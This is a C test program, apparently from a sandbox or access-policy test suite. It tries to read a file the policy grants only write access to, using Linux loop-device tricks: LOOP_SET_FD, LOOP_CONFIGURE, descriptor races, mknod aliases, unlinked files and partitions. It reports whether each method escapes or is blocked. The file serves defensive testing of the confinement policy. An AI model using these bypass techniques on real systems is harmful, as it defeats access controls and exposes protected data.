/* loop_wo.c SECRET [MODE [DECOY [READER]]]: read a file the table only lets the program write,
 * through a loop device (review 28, known gap #44).  The secret is opened O_WRONLY (what the
 * table grants), attached to a free loop device (LOOP_CTL_GET_FREE, then LOOP_SET_FD -- which
 * takes a descriptor not open for reading: the device is then read-write, its reads the
 * file's), and the device read: a table that reads /dev/** has the file's contents.
 * MODE "set" (the default): LOOP_SET_FD.  "configure": LOOP_CONFIGURE, the descriptor in
 * its struct loop_config (memory).  "race": LOOP_SET_FD of a number a second thread keeps
 * turning between DECOY (a file the table reads and writes) and the secret (dup2), 400
 * times.  "configrace": LOOP_CONFIGURE of a struct whose fd a second thread keeps turning
 * between DECOY's descriptor and the secret's, 400 times.  "node" (review 30): DECOY is a
 * path where a device node of the free loop device is made (mknod, its number): the attach
 * is made through that node, then READER (dd, a program of a table of its own that reads
 * /dev/**) reads the device by its /dev name into a pipe -- the device's other name, which
 * a comparison of the node's name alone misses.  "deleted" (review 30): LOOP_SET_FD of the
 * secret's descriptor after the secret is removed (unlink: /proc names it "SECRET
 * (deleted)", a name no rule of the secret's matches).  "partition" (loose30): the free device
 * gets a partition (DECOY attached, BLKPG_ADD_PARTITION of p1, detached: the partition outlives
 * the detach), and the secret is attached through /dev/loopNp1 -- an ioctl on a partition is
 * its disk's, so LOOP_SET_FD there attaches loopN, whose reads are then the secret's.  "parts"
 * (loose30): the secret attached at /dev/loopN, then partition p1 made over its first 4096
 * bytes and READER (dd, a table of its own that reads the partitions /dev/loop*p* and not
 * /dev/loopN) reads /dev/loopNp1 into a pipe (DECOY unused: give "-").  Both delete their
 * partition before they exit.  ESCAPED when the secret was read;
 * BLOCKED with the failing step's errno (the last one, and a count of each, when racing)
 * otherwise.  Root (the loop devices).
 */
#include "attack.h"

#include <linux/blkpg.h>
#include <linux/fs.h>
#include <linux/loop.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>

#define TRIES 400
#define NUMBER 40 /* the descriptor number the racing thread turns */

static int secret_fd, decoy_fd;
static struct loop_config config;
static volatile int stop;

static void *turn_number(void *arg) {
    (void)arg;
    while (!stop) {
        dup2(secret_fd, NUMBER);
        dup2(decoy_fd, NUMBER);
    }
    return NULL;
}

static void *turn_struct(void *arg) {
    (void)arg;
    while (!stop) {
        __atomic_store_n(&config.fd, (unsigned)secret_fd, __ATOMIC_RELAXED);
        __atomic_store_n(&config.fd, (unsigned)decoy_fd, __ATOMIC_RELAXED);
    }
    return NULL;
}

/* attach by the mode's request; 0 or the errno */
static int attach(int loop, const char *mode) {
    int r;
    if (!strcmp(mode, "set"))
        r = ioctl(loop, LOOP_SET_FD, secret_fd);
    else if (!strcmp(mode, "race"))
        r = ioctl(loop, LOOP_SET_FD, NUMBER);
    else {
        if (!strcmp(mode, "configure"))
            config.fd = (unsigned)secret_fd;
        r = ioctl(loop, LOOP_CONFIGURE, &config);
    }
    return r < 0 ? errno : 0;
}

/* BLKPG_ADD_PARTITION (add 1) or _DEL_PARTITION (add 0) of partition 1, bytes 0..4095; 0 or
 * the errno */
static int partition(int loop, int add) {
    struct blkpg_partition part = {.start = 0, .length = 4096, .pno = 1};
    struct blkpg_ioctl_arg arg = {.op = add ? BLKPG_ADD_PARTITION : BLKPG_DEL_PARTITION,
                                  .datalen = sizeof part, .data = &part};
    return ioctl(loop, BLKPG, &arg) < 0 ? errno : 0;
}

/* READER if=DEV into a pipe: how many of its first 4096 bytes were read into buf */
static ssize_t read_by(const char *reader, const char *dev, char *buf) {
    int fds[2];
    if (pipe(fds) < 0)
        return -1;
    char input[80];
    snprintf(input, sizeof input, "if=%s", dev);
    pid_t child = fork();
    if (child == 0) {
        dup2(fds[1], 1);
        execl(reader, reader, input, "bs=4096", "count=1", "status=none", (char *)NULL);
        _exit(127);
    }
    close(fds[1]);
    ssize_t got = 0, n;
    while (got < 4096 && (n = read(fds[0], buf + got, 4096 - (size_t)got)) > 0)
        got += n;
    close(fds[0]);
    waitpid(child, NULL, 0);
    return got;
}

/* "partition" and "parts" (loose30); never returns */
static void partition_attack(const char *dev, const char *mode, const char *decoy,
                             const char *reader) {
    char part[72];
    snprintf(part, sizeof part, "%sp1", dev);
    int loop = open(dev, O_RDWR | O_CLOEXEC);
    if (loop < 0)
        blocked("open %s: %s", dev, ename(errno));
    if (!strcmp(mode, "parts")) {
        if (!reader)
            blocked("parts needs a READER");
        int err = ioctl(loop, LOOP_SET_FD, secret_fd) < 0 ? errno : 0;
        if (err == EBUSY)
            skipped("LOOP_SET_FD %s: %s", dev, ename(err));
        if (err)
            blocked("LOOP_SET_FD %s: %s", dev, ename(err));
        err = partition(loop, 1);
        if (err) {
            ioctl(loop, LOOP_CLR_FD, 0);
            blocked("BLKPG_ADD_PARTITION %s: %s", dev, ename(err));
        }
        for (int i = 0; i < 200 && access(part, F_OK) < 0; i++)
            usleep(10000); /* (devtmpfs makes the node) */
        char buf[4096];
        ssize_t got = read_by(reader, part, buf);
        partition(loop, 0);
        ioctl(loop, LOOP_CLR_FD, 0);
        if (got > 0 && memmem(buf, (size_t)got, SECRET_MAGIC, strlen(SECRET_MAGIC)))
            escaped("%s read the secret at %s (the secret attached at %s)", reader, part, dev);
        blocked("%s at %s: %zd bytes, not the secret", reader, part, got);
    }
    int decoy_file = decoy ? open(decoy, O_RDWR | O_CLOEXEC) : -1;
    if (decoy_file < 0)
        blocked("open %s: %s", decoy ? decoy : "(no DECOY)", ename(errno));
    int err = ioctl(loop, LOOP_SET_FD, decoy_file) < 0 ? errno : 0;
    if (err == EBUSY)
        skipped("LOOP_SET_FD %s: %s", dev, ename(err));
    if (err)
        blocked("LOOP_SET_FD %s (the decoy): %s", dev, ename(err));
    close(decoy_file);
    err = partition(loop, 1);
    ioctl(loop, LOOP_CLR_FD, 0);
    close(loop); /* (cleared at the last close; the partition stays) */
    if (err)
        blocked("BLKPG_ADD_PARTITION %s: %s", dev, ename(err));
    int p = -1;
    for (int i = 0; i < 200 && (p = open(part, O_RDWR | O_CLOEXEC)) < 0; i++)
        usleep(10000);
    if (p < 0)
        blocked("open %s: %s", part, ename(errno));
    err = 0;
    for (int i = 0; i < 200; i++) { /* (the decoy's clear may still be under way) */
        err = ioctl(p, LOOP_SET_FD, secret_fd) < 0 ? errno : 0;
        if (err != EBUSY)
            break;
        usleep(10000);
    }
    int secret = 0, saved = 0, whole = -1;
    if (!err) {
        whole = open(dev, O_RDONLY | O_CLOEXEC);
        saved = errno;
        secret = whole >= 0 && is_secret_fd(whole);
        ioctl(p, LOOP_CLR_FD, 0);
    }
    close(p);
    if (whole >= 0)
        close(whole);
    loop = open(dev, O_RDONLY | O_CLOEXEC);
    if (loop >= 0) {
        partition(loop, 0);
        close(loop);
    }
    if (err)
        blocked("LOOP_SET_FD %s: %s", part, ename(err));
    if (secret)
        escaped("read the secret through %s, attached through %s", dev, part);
    blocked("read %s: %s", dev, whole < 0 ? ename(saved) : "not the secret");
}

/* "node": attach through a node of the device made at NODE, read it by its /dev name with
 * READER (if=DEV, into a pipe); never returns */
static void node_attach(const char *dev, const char *node, const char *reader) {
    if (!node)
        blocked("node needs a NODE and a READER");
    struct stat st;
    if (stat(dev, &st) < 0)
        blocked("stat %s: %s", dev, ename(errno));
    unlink(node);
    if (mknod(node, S_IFBLK | 0600, st.st_rdev) < 0)
        blocked("mknod %s %u:%u: %s", node, major(st.st_rdev), minor(st.st_rdev), ename(errno));
    int loop = open(node, O_RDWR | O_CLOEXEC);
    if (loop < 0)
        blocked("open %s: %s", node, ename(errno));
    if (ioctl(loop, LOOP_SET_FD, secret_fd) < 0) {
        int err = errno;
        unlink(node);
        if (err == EBUSY)
            skipped("LOOP_SET_FD %s: %s", node, ename(err));
        blocked("LOOP_SET_FD %s (%s): %s", node, dev, ename(err));
    }
    int fds[2];
    if (pipe(fds) < 0)
        blocked("pipe: %s", ename(errno));
    char input[80];
    snprintf(input, sizeof input, "if=%s", dev);
    pid_t child = fork();
    if (child == 0) {
        dup2(fds[1], 1);
        execl(reader, reader, input, "bs=4096", "count=1", "status=none", (char *)NULL);
        _exit(127);
    }
    close(fds[1]);
    char buf[4096];
    ssize_t got = 0, n;
    while (got < (ssize_t)sizeof buf && (n = read(fds[0], buf + got, sizeof buf - got)) > 0)
        got += n;
    int status = 0;
    waitpid(child, &status, 0);
    ioctl(loop, LOOP_CLR_FD, 0);
    close(loop);
    unlink(node);
    if (got > 0 && memmem(buf, (size_t)got, SECRET_MAGIC, strlen(SECRET_MAGIC)))
        escaped("%s read the secret at %s, attached through %s", reader, dev, node);
    blocked("%s at %s: %zd bytes, not the secret (status %d)", reader, dev, got, status);
}

int main(int argc, char **argv) {
    if (argc < 2 || argc > 5)
        blocked("usage: %s SECRET [MODE [DECOY [READER]]]", argv[0]);
    const char *mode = argc > 2 ? argv[2] : "set";
    int racing = !strcmp(mode, "race") || !strcmp(mode, "configrace");
    secret_fd = open(argv[1], O_WRONLY | O_CLOEXEC);
    if (secret_fd < 0)
        blocked("open %s O_WRONLY: %s", argv[1], ename(errno));
    if (!strcmp(mode, "deleted")) {
        if (unlink(argv[1]) < 0)
            blocked("unlink %s: %s", argv[1], ename(errno));
        mode = "set";
    }
    if (racing) {
        if (argc != 4)
            blocked("%s needs a DECOY", mode);
        decoy_fd = open(argv[3], O_RDWR | O_CLOEXEC);
        if (decoy_fd < 0)
            blocked("open %s: %s", argv[3], ename(errno));
        if (dup2(decoy_fd, NUMBER) < 0)
            blocked("dup2: %s", ename(errno));
        config.fd = (unsigned)decoy_fd;
    }
    int ctl = open("/dev/loop-control", O_RDWR | O_CLOEXEC);
    if (ctl < 0)
        skipped("/dev/loop-control: %s", ename(errno));
    int n = ioctl(ctl, LOOP_CTL_GET_FREE);
    if (n < 0)
        skipped("LOOP_CTL_GET_FREE: %s", ename(errno));
    char dev[64];
    snprintf(dev, sizeof dev, "/dev/loop%d", n);
    if (!strcmp(mode, "node"))
        node_attach(dev, argc == 5 ? argv[3] : NULL, argc == 5 ? argv[4] : NULL);
    if (!strcmp(mode, "partition") || !strcmp(mode, "parts"))
        partition_attack(dev, mode, argc > 3 ? argv[3] : NULL, argc == 5 ? argv[4] : NULL);
    int loop = open(dev, O_RDWR | O_CLOEXEC);
    if (loop < 0)
        blocked("open %s: %s", dev, ename(errno));
    const char *request = strcmp(mode, "set") && strcmp(mode, "race") ? "LOOP_CONFIGURE"
                                                                       : "LOOP_SET_FD";
    if (!racing) {
        int err = attach(loop, mode);
        if (err == EBUSY)
            skipped("%s %s: %s", request, dev, ename(err));
        if (err)
            blocked("%s %s: %s", request, dev, ename(err));
        int reader = open(dev, O_RDONLY | O_CLOEXEC);
        int secret = reader >= 0 && is_secret_fd(reader);
        int saved = errno;
        ioctl(loop, LOOP_CLR_FD, 0);
        if (secret)
            escaped("read the secret through %s", dev);
        blocked("read %s: %s", dev, reader < 0 ? ename(saved) : "not the secret");
    }
    pthread_t thread;
    pthread_create(&thread, NULL, !strcmp(mode, "race") ? turn_number : turn_struct, NULL);
    int attached = 0, secrets = 0, last = 0, refused = 0, busy = 0;
    close(loop); /* (a device is cleared at its last close: one open per attach) */
    for (int i = 0; i < TRIES && !secrets; i++) {
        loop = open(dev, O_RDWR | O_CLOEXEC);
        if (loop < 0)
            blocked("open %s: %s", dev, ename(errno));
        int err = attach(loop, mode);
        if (err == EBUSY && ++busy < 400) {
            close(loop); /* (the last clear not done yet) */
            usleep(2000);
            i--;
            continue;
        }
        if (err) {
            last = err;
            refused++;
            close(loop);
            continue;
        }
        attached++;
        int reader = open(dev, O_RDONLY | O_CLOEXEC);
        if (reader >= 0) {
            secrets += is_secret_fd(reader);
            close(reader);
        }
        ioctl(loop, LOOP_CLR_FD, 0);
        close(loop);
    }
    stop = 1;
    pthread_join(thread, NULL);
    if (secrets)
        escaped("read the secret through %s (%s, a racing thread; %d attached, %d refused)",
                dev, request, attached, refused);
    blocked("%s %s: %s (%d attached, none the secret; %d refused)", request, dev,
            last ? ename(last) : "-", attached, refused);
}
